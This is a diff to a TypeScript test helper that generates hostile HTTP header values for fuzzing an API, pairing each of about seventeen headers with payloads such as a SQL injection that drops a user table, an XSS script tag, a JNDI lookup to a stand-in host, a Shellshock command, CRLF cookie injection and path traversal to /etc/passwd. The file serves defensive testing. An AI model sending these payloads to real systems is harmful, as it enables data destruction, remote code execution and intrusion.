@@ -41,3 +41,22 @@ export function chamadasHostis(rota: ContratoRota): readonly (readonly [string, 
   const brutos = ['', '{', '[]', 'null', '"texto"', '{"a":1,"a":2}', `${'['.repeat(500)}${']'.repeat(500)}`].map((corpoBruto) => [`corpo ${corpoBruto.slice(0, 10)}`, { ...com('corpo', exemplo.corpo), corpoBruto }] as const);
   return [...noEndereco, ...naConsulta, ...noCorpo, ...amais, ...brutos];
 }
+
+const EM_CABECALHO: readonly string[] = [
+  `' OR 1=1; DROP TABLE acesso.usuario; --`,
+  `"><script>alert(1)</script>`,
+  `\${jndi:ldap://mau.example/a}{{7*7}}`,
+  `() { :; }; /bin/sh -c 'id'`,
+  `%0d%0aSet-Cookie: nascente_sessao=x`,
+  `../../../../etc/passwd%00`,
+  `\u00e1\u00ff\u00a0`.repeat(40),
+  '9'.repeat(40),
+  'a'.repeat(6_000),
+  ',,,;;;===""',
+];
+const CABECALHOS = ['user-agent', 'idempotency-key', 'x-forwarded-for', 'x-forwarded-host', 'x-forwarded-proto', 'x-correlacao', 'x-amzn-trace-id', 'accept', 'accept-language', 'content-type', 'referer', 'authorization', 'x-ocioso', 'x-visitante', 'x-origem', 'if-none-match', 'range'];
+
+/** Each header with each of what breaks out of SQL, HTML, shells, files and lines. */
+export function cabecalhosHostis(): readonly (readonly [string, string])[] {
+  return CABECALHOS.flatMap((cabecalho) => EM_CABECALHO.map((valor) => [cabecalho, valor] as const));
+}
